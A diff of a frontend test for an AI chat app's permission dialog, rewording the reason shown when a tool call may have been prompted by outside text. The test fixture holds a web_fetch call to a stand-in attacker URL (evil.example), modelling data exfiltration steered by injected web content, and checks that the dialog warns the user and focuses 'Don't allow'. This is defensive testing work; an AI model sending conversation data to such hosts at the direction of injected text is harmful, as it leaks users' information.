@@ -98,7 +98,7 @@ describe('a question', () => {
 
   test('that others may have brought about warns, names them, and has its no in focus', async () => {
     await draw(<Questions chat={CHAT} />)
-    await ask('q', { tool: 'web_fetch', args: { url: 'https://evil.example/?x' }, tainted: true, why: 'It sends something out, and the conversation holds words of others (https://blog.example/).' })
+    await ask('q', { tool: 'web_fetch', args: { url: 'https://evil.example/?x' }, tainted: true, why: 'It sends something out, and the conversation holds outside text (https://blog.example/).' })
     expect(document.activeElement).toBe(button('Don’t allow') ?? [...document.querySelectorAll('button')].find((found) => found.textContent?.startsWith('Don’t allow')))
     expect(card()?.textContent).toContain('https://blog.example/')
     expect(card()?.textContent).toContain('Somebody else may be using her')
